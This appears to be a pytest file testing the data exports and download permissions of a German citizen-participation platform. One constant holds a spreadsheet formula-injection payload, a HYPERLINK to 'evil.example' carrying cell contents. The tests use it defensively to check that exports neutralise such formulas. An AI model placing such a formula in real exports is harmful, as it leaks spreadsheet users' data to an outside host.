"""Exports of ideas and projects as CSV, XLSX and JSON, read back the way a spreadsheet
or a program reads them; who may download them; what never gets in."""

import csv
import io
import json
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import event, select

from participation.extensions import db
from participation.projects import services as projects
from participation.rating.services import rate_idea
from participation.reports import exports
from participation.strategy.models import FieldOfAction
from participation.timeutil import utcnow
from tests.factories import create_idea, create_user, get_municipality
from tests.helpers import html_of, main_of

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'
NOTE = "Kämmerei zahlt erst 2028 – nicht öffentlich"
SECRET_STATES = ("pending", "hidden", "rejected", "withdrawn")
REFUSED = {
    "resident": (),
    "moderator": ("moderator",),
    "moderator-rheine": ("moderator:rheine",),
    "admin": ("admin",),
}
DOWNLOADS = [
    f"/pipeline/export/{kind}.{fmt}"
    for kind in ("ideas", "projects")
    for fmt in ("csv", "xlsx", "json")
]


def field_id(slug: str) -> int:
    return db.session.scalar(select(FieldOfAction.id).where(FieldOfAction.slug == slug))


def rated_idea(title: str, ratings=((4, 2), (3, 3)), **options):
    idea = create_idea(title=title, **options)
    for relevance, feasibility in ratings:
        rate_idea(create_user(roles=("committee",)), idea, relevance, feasibility, "Notiz")
    db.session.commit()
    return idea


def planned_project(team, source_ideas=()):
    """A project with every part of a plan filled in, made through the services."""
    plan = projects.ProjectPlan(
        title="Größere Bänke am Marktplatz",
        summary="Sitzen für alle Generationen.",
        kind="lead",
        status="active",
        progress=40,
        what="Bänke mit Armlehnen",
        starts_on=date(2026, 3, 1),
        ends_on=date(2027, 6, 30),
        place="Marktplatz Rheine",
        lead="Stadt Rheine, Grünflächenamt",
        partners="Seniorenbeirat; Heimatverein",
        staff_fte=Decimal("1.5"),
        budget=Decimal("1250000"),
        internal_notes=NOTE,
        field_ids=[field_id("mobilitaet"), field_id("demografie")],
        municipality_ids=[get_municipality("rheine").id, get_municipality("hoerstel").id],
    )
    project = projects.create_project(team, plan, list(source_ideas))
    projects.add_funding(team, project, "LEADER", Decimal("250000.50"), "approved")
    projects.add_funding(team, project, "Städtebauförderung", Decimal("600000"), "applied")
    projects.add_funding(team, project, "Stiftung", Decimal("1000"), "declined")
    projects.add_milestone(team, project, "Standorte festlegen", date(2026, 5, 15))
    projects.add_milestone(team, project, "Aufstellen", None)
    projects.publish_update(
        team, project, "Los geht’s", "Die **ersten** Bänke stehen.", date(2026, 4, 2)
    )
    db.session.commit()
    return project


def download(browser, path):
    response = browser.get(path)
    assert response.status_code == 200, path
    assert response.headers["Content-Disposition"].startswith("attachment")
    return response


def read_csv(response) -> list[list[str]]:
    text = response.data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.data))


def by_header(sheet) -> list[dict]:
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def team_browser(as_user):
    return as_user(create_user(roles=("team",)))


def test_the_page_lists_every_download_and_is_linked_from_the_overview(team_browser):
    create_idea(title="Öffentliche Idee")
    create_idea(state="pending")
    page = team_browser.get("/pipeline/export")
    assert page.status_code == 200
    main = main_of(page)
    for path in DOWNLOADS:
        assert f'href="{path}"' in main
    assert "1 Idee:" in main and "0 Projekte" in main
    assert 'href="/pipeline/export"' in main_of(team_browser.get("/pipeline"))


def test_anonymous_people_are_sent_to_login(client):
    rated_idea("Geheime Bewertung")
    for path in ["/pipeline/export", *DOWNLOADS]:
        response = client.get(path)
        assert response.status_code == 302, path
        assert "/login" in response.headers["Location"], path


@pytest.mark.parametrize("role", [*REFUSED, "blocked-committee"])
def test_other_roles_are_refused(as_user, role):
    rated_idea("Bank am Kanal")
    user = create_user(roles=("committee",) if role == "blocked-committee" else REFUSED[role])
    browser = as_user(user)
    if role == "blocked-committee":
        user.blocked_at = utcnow()
        db.session.commit()
    for path in ["/pipeline/export", *DOWNLOADS]:
        response = browser.get(path)
        assert response.status_code == 403, f"{role}: {path}"
        assert "Bank am Kanal" not in html_of(response)
        assert "Content-Disposition" not in response.headers


@pytest.mark.parametrize("role", ["committee", "team"])
def test_committee_and_team_download_every_file(as_user, role):
    rated_idea("Bank am Kanal")
    browser = as_user(create_user(roles=(role,)))
    day = exports.today().isoformat()
    for path in DOWNLOADS:
        response = download(browser, path)
        kind, fmt = path.rsplit("/", 1)[1].split(".")
        name = f"{'ideen' if kind == 'ideas' else 'projekte'}-{day}.{fmt}"
        assert response.headers["Content-Disposition"] == f"attachment; filename={name}"
        assert response.headers["Cache-Control"] == "no-store"
    assert download(browser, "/pipeline/export/ideas.csv").mimetype == "text/csv"


def test_ideas_csv_opens_in_german_excel(team_browser):
    team = create_user(roles=("team",))
    idea = rated_idea("Größere Bänke am Marktplatz", municipality="hoerstel")
    rated_idea(FORMULA, ratings=())
    rated_idea("+49 Hotline für Senioren", ratings=())
    project = planned_project(team, [idea])

    response = download(team_browser, "/pipeline/export/ideas.csv")
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    header, *rows = read_csv(response)
    assert header == [
        "ID", "Titel", "Handlungsfeld", "Kommune", "Stand", "Eingereicht", "Unterstützungen",
        "Kommentare", "Bewertungen", "Relevanz", "Realisierbarkeit", "Projekte", "Link",
    ]  # fmt: skip
    by_title = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_title) == {
        "Größere Bänke am Marktplatz",
        "'" + FORMULA,
        "'+49 Hotline für Senioren",
    }
    row = by_title["Größere Bänke am Marktplatz"]
    assert row["Kommune"] == "Hörstel" and row["Handlungsfeld"] == "Mobilität"
    assert row["Stand"] == "In ein Projekt eingeflossen"
    assert row["Eingereicht"] == exports.today().isoformat()
    assert (row["Bewertungen"], row["Relevanz"], row["Realisierbarkeit"]) == ("2", "3,50", "2,50")
    assert row["Projekte"] == project.title
    assert row["Link"] == f"http://localhost/ideas/{idea.id}"
    assert by_title["'" + FORMULA]["Relevanz"] == ""


def test_ideas_xlsx_has_real_dates_numbers_and_text(team_browser):
    idea = rated_idea("Größere Bänke am Marktplatz")
    rated_idea(FORMULA, ratings=((5, 5),))

    workbook = read_xlsx(download(team_browser, "/pipeline/export/ideas.xlsx"))
    assert workbook.sheetnames == ["Ideen"]
    sheet = workbook["Ideen"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    rows = {row["ID"].value: row for row in by_header(sheet)}
    row = rows[idea.id]
    assert row["Titel"].value == "Größere Bänke am Marktplatz"
    assert isinstance(row["Eingereicht"].value, datetime | date)
    assert row["Eingereicht"].value.date() == exports.today()
    assert row["Eingereicht"].number_format == "DD.MM.YYYY"
    assert row["Unterstützungen"].value == 0 and row["Bewertungen"].value == 2
    assert row["Relevanz"].value == 3.5 and row["Realisierbarkeit"].value == 2.5
    assert row["Projekte"].value is None
    formula = next(r for r in rows.values() if r["Relevanz"].value == 5)["Titel"]
    assert (formula.value, formula.data_type) == (FORMULA, "s")  # text, never a formula


def test_ideas_json_has_iso_dates_and_lists(team_browser):
    team = create_user(roles=("team",))
    idea = rated_idea("Größere Bänke am Marktplatz")
    declined = rated_idea("Seilbahn nach Tecklenburg", ratings=())
    projects.decline_idea(team, declined, "Zu teuer für den Kreis.")
    project = planned_project(team, [idea])

    document = json.loads(download(team_browser, "/pipeline/export/ideas.json").data)
    assert document["count"] == 2
    first, second = document["ideas"]
    assert first == {
        "id": idea.id,
        "title": "Größere Bänke am Marktplatz",
        "field": "Mobilität",
        "municipality": "Rheine",
        "state": "In ein Projekt eingeflossen",
        "submitted_on": exports.today().isoformat(),
        "supports": 0,
        "comments": 0,
        "ratings": 2,
        "relevance": 3.5,
        "feasibility": 2.5,
        "projects": [project.title],
        "url": f"http://localhost/ideas/{idea.id}",
    }
    assert (second["state"], second["ratings"], second["relevance"]) == (
        "Nicht weiterverfolgt",
        0,
        None,
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_ideas_that_are_not_public_are_never_exported(team_browser, fmt):
    create_idea(title="Sichtbare Idee")
    for state in SECRET_STATES:
        create_idea(state=state, title=f"GEHEIM {state}")
    response = download(team_browser, f"/pipeline/export/ideas.{fmt}")
    if fmt == "xlsx":
        titles = [row["Titel"].value for row in by_header(read_xlsx(response)["Ideen"])]
    elif fmt == "csv":
        titles = [row[1] for row in read_csv(response)[1:]]
    else:
        titles = [idea["title"] for idea in json.loads(response.data)["ideas"]]
    assert titles == ["Sichtbare Idee"]


def test_submission_day_is_the_local_day(team_browser):
    idea = create_idea(created_at=datetime(2026, 2, 28, 23, 30))  # 00:30 on 1 March in Rheine
    [_, row] = read_csv(download(team_browser, "/pipeline/export/ideas.csv"))
    assert (row[0], row[5]) == (str(idea.id), "2026-03-01")


def test_projects_xlsx_holds_the_whole_plan_on_five_sheets(team_browser):
    team = create_user(roles=("team",))
    idea = create_idea(title="Bänke für Ältere")
    project = planned_project(team, [idea])

    workbook = read_xlsx(download(team_browser, "/pipeline/export/projects.xlsx"))
    assert workbook.sheetnames == [
        "Projekte",
        "Finanzierung",
        "Meilensteine",
        "Neuigkeiten",
        "Ideen",
    ]
    [row] = by_header(workbook["Projekte"])
    assert row["Titel"].value == "Größere Bänke am Marktplatz"
    assert (row["Art"].value, row["Status"].value, row["Fortschritt (%)"].value) == (
        "Leitprojekt",
        "In Umsetzung",
        40,
    )
    assert row["Beginn"].value == datetime(2026, 3, 1)
    assert row["Beginn"].number_format == "DD.MM.YYYY"
    assert row["Budget"].value == 1250000 and row["Budget"].number_format == '#,##0.00 "€"'
    assert row["Förderung bewilligt"].value == pytest.approx(250000.50)
    assert row["Förderung beantragt"].value == 600000
    assert row["Personal (VZÄ)"].value == 1.5
    assert row["Handlungsfelder"].value == "Demografie; Mobilität"
    assert row["Kommunen"].value == "Hörstel; Rheine"
    assert row["Interne Notizen"].value == NOTE
    assert row["Ideen (IDs)"].value == str(idea.id)
    assert row["Link"].value == f"http://localhost/projects/{project.id}"

    funding = by_header(workbook["Finanzierung"])
    assert [(f["Programm"].value, f["Betrag"].value, f["Stand"].value) for f in funding] == [
        ("LEADER", 250000.5, "Bewilligt"),
        ("Städtebauförderung", 600000, "Beantragt"),
        ("Stiftung", 1000, "Abgelehnt"),
    ]
    assert {f["Projekt-ID"].value for f in funding} == {project.id}
    milestones = by_header(workbook["Meilensteine"])
    assert sorted(
        (m["Meilenstein"].value, m["Fällig am"].value, m["Erledigt"].value) for m in milestones
    ) == [
        ("Aufstellen", None, "nein"),
        ("Standorte festlegen", datetime(2026, 5, 15), "nein"),
    ]
    [update] = by_header(workbook["Neuigkeiten"])
    assert (update["Titel"].value, update["Veröffentlicht am"].value) == (
        "Los geht’s",
        datetime(2026, 4, 2),
    )
    [linked] = by_header(workbook["Ideen"])
    assert (linked["Idee-ID"].value, linked["Idee"].value, linked["Stand"].value) == (
        idea.id,
        "Bänke für Ältere",
        "In ein Projekt eingeflossen",
    )


def test_projects_csv_uses_decimal_commas_and_neutralises_formulas(team_browser):
    team = create_user(roles=("team",))
    project = planned_project(team)
    project.internal_notes = "@SUMME(A1:A9) prüfen"
    db.session.commit()

    header, row = read_csv(download(team_browser, "/pipeline/export/projects.csv"))
    values = dict(zip(header, row, strict=True))
    assert values["Titel"] == "Größere Bänke am Marktplatz"
    assert values["Budget"] == "1250000,00"
    assert values["Personal (VZÄ)"] == "1,50"
    assert (values["Förderung bewilligt"], values["Förderung beantragt"]) == (
        "250000,50",
        "600000,00",
    )
    assert (values["Beginn"], values["Ende"]) == ("2026-03-01", "2027-06-30")
    assert values["Interne Notizen"] == "'@SUMME(A1:A9) prüfen"
    assert "Finanzierung" not in header  # the details live in XLSX and JSON


def test_projects_json_nests_the_plan(team_browser):
    team = create_user(roles=("team",))
    idea = create_idea(title="Bänke für Ältere")
    project = planned_project(team, [idea])

    document = json.loads(download(team_browser, "/pipeline/export/projects.json").data)
    [item] = document["projects"]
    assert item["id"] == project.id and item["internal_notes"] == NOTE
    assert (item["budget"], item["staff_fte"]) == ("1250000.00", "1.50")
    assert (item["funding_approved"], item["funding_applied"]) == ("250000.50", "600000.00")
    assert (item["starts_on"], item["ends_on"]) == ("2026-03-01", "2027-06-30")
    assert sorted(item["municipalities"]) == ["Hörstel", "Rheine"]
    assert item["funding"][0] == {
        "programme": "LEADER",
        "amount": "250000.50",
        "status": "Bewilligt",
    }
    assert {"title": "Standorte festlegen", "due_on": "2026-05-15", "done": False} in item[
        "milestones"
    ]
    assert item["updates"] == [
        {
            "title": "Los geht’s",
            "published_on": "2026-04-02",
            "body": "Die **ersten** Bänke stehen.",
        }
    ]
    assert [(i["idea_id"], i["title"]) for i in item["ideas"]] == [(idea.id, "Bänke für Ältere")]
    assert item["idea_ids"] == [idea.id]


def test_the_number_of_queries_does_not_grow_with_the_ideas(app, team_browser):
    team = create_user(roles=("team",))

    def statements(path: str) -> int:
        counted = []
        listener = lambda *args: counted.append(1)  # noqa: E731
        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            download(team_browser, path)
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        return len(counted)

    planned_project(team, [rated_idea("Erste Idee")])
    few = {path: statements(path) for path in DOWNLOADS}
    assert max(few.values()) <= 12  # the login, then a handful for the export
    ideas = [rated_idea(f"Idee {n}") for n in range(6)]
    planned_project(team, ideas[:3])
    planned_project(team, ideas[3:])
    assert {path: statements(path) for path in DOWNLOADS} == few


def test_the_cli_writes_a_file_with_a_progress_bar(runner, tmp_path):
    rated_idea("Größere Bänke am Marktplatz")
    planned_project(create_user(roles=("team",)))
    target = tmp_path / "ideen.xlsx"

    result = runner.invoke(args=["export", "ideas", "--format", "xlsx", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert "Ideen schreiben" in result.output
    assert f"1 Idee nach {target} geschrieben" in result.output
    sheet = load_workbook(target)["Ideen"]
    assert sheet["B2"].value == "Größere Bänke am Marktplatz" and sheet["J2"].value == 3.5

    target = tmp_path / "projekte.json"
    result = runner.invoke(args=["export", "projects", "--format", "json", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert json.loads(target.read_text("utf-8"))["projects"][0]["budget"] == "1250000.00"
    assert not list(tmp_path.glob("*.part"))
